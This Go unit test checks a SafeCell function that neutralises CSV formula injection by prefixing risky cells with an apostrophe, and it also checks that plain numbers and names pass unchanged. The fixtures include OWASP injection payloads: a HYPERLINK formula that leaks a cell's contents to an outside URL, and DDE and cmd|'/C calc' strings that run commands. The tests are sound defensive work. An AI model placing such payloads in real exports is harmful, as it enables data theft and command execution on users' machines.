package pipeline

import "testing"

func TestSafeCell(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		// OWASP's CSV injection list.
		{"equals", "=1+1", "'=1+1"},
		{"hyperlink", `=HYPERLINK("http://x?leak="&B2;"clic")`, `'=HYPERLINK("http://x?leak="&B2;"clic")`},
		{"dde", `=DDE("cmd";"/C calc";"!A0")`, `'=DDE("cmd";"/C calc";"!A0")`},
		{"plus", "+1+1", "'+1+1"},
		{"plus command", `+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{"minus", "-2+3", "'-2+3"},
		{"minus command", `-cmd|' /C calc'!A0`, `'-cmd|' /C calc'!A0`},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		{"tab", "\t=1+1", "'\t=1+1"},
		{"carriage return", "\r=1+1", "'\r=1+1"},
		{"line feed", "\n=1+1", "'\n=1+1"},
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1+1", "'＋1+1"},
		{"full-width minus", "－1+1", "'－1+1"},
		{"full-width at", "＠SUM(A1)", "'＠SUM(A1)"},
		{"lone minus", "-", "'-"},
		{"minus comma", "-,", "'-,"},
		{"minus exponent", "-1e5", "'-1e5"},
		// Plain numbers stay numbers.
		{"negative integer", "-12", "-12"},
		{"negative price", "-2,50", "-2,50"},
		{"negative decimal point", "-0.5", "-0.5"},
		{"positive sign", "+3", "+3"},
		{"positive", "798", "798"},
		{"price", "2,40", "2,40"},
		// Text that no spreadsheet evaluates.
		{"empty", "", ""},
		{"name", "DA SILVA", "DA SILVA"},
		{"inner formula", "A=1+1", "A=1+1"},
		{"hyphenated", "JEAN-PHILIPPE", "JEAN-PHILIPPE"},
		{"leading space", " =1", " =1"},
		{"apostrophe", "'=1", "'=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := SafeCell(tt.in); got != tt.want {
				t.Errorf("SafeCell(%q) = %q, want %q", tt.in, got, tt.want)
			}
		})
	}
}
